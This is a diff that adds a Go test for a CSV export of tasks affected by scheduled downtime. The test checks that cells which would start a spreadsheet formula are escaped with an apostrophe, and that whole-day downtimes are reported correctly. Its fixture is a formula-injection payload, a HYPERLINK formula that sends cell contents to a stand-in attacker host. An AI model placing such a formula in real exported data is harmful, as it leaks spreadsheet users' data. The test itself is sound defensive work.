@@ -6,11 +6,14 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/stretchr/testify/require"
+
+	"github.com/afterhours-go/afterhours/internal/csvsafe"
 )
 
 func TestAffectedReport(t *testing.T) {
@@ -94,4 +97,48 @@ func TestEndingADowntimeEarlyReleasesWork(t *testing.T) {
 	require.NoError(t, err)
 	require.Equal(t, []string{"vacuum 21:00-21:30"}, summary(plan))
 	require.True(t, plan.Downtimes[0].Ended)
+}
+
+// TestAffectedCSVFormulaSafe checks that the affected-objects CSV never
+// hands a spreadsheet a formula: a task named "=HYPERLINK(...)" (issue 11,
+// item 15) is written with a "'" before it, and reads back as it was once
+// that "'" is taken off; the JSON form carries the name as it is. It also
+// checks that a whole-day downtime reads "00:00-24:00", on London's
+// spring-forward day too, in the report and in the plan's deferrals.
+func TestAffectedCSVFormulaSafe(t *testing.T) {
+	const evil = `=HYPERLINK("http://evil.example/?"&A1,"details")`
+	p, err := ParseProfile([]byte(`{"client":"c","site":{"timezone":"Europe/London","business_hours":{"fri":["08:00-18:00"]}},
+	  "housekeeping":[{"name":` + strconv.Quote(evil) + `,"run":["/x"],"uses":["@db"]},{"name":"'quoted","run":["/y"],"uses":["@db"]}],
+	  "resources":[{"name":"@db","downtimes":[{"dates":["2026-03-29"]}]}]}`))
+	require.NoError(t, err)
+	rows, err := AffectedReport(p, fixedClock(time.Date(2026, 3, 28, 12, 0, 0, 0, time.UTC)), 2)
+	require.NoError(t, err)
+	require.Len(t, rows, 2)
+	require.Equal(t, `@db 00:00-24:00 suppress: `+evil+` deferred`, rows[0].String())
+
+	var out bytes.Buffer
+	require.NoError(t, WriteAffectedCSV(&out, rows))
+	records, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
+	require.NoError(t, err)
+	for _, rec := range records[1:] {
+		for j, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("%s: %q starts a formula", affectedHeader[j], cell)
+			}
+		}
+	}
+	require.Equal(t, "'@db", records[1][0])
+	require.Equal(t, "'"+evil, records[1][5])
+	require.Equal(t, "''quoted", records[2][5])
+	require.Contains(t, records[1][13], "is down 00:00-24:00 (suppress)")
+	for i, r := range rows {
+		require.Equal(t, r.record(), csvsafe.UnescapeRecord(records[i+1]), "row %d reads back as written", i)
+	}
+
+	js, err := json.Marshal(rows[0])
+	require.NoError(t, err)
+	var back map[string]string
+	require.NoError(t, json.Unmarshal(js, &back))
+	require.Equal(t, evil, back["task"])
+	require.Equal(t, "@db", back["resource"])
 }
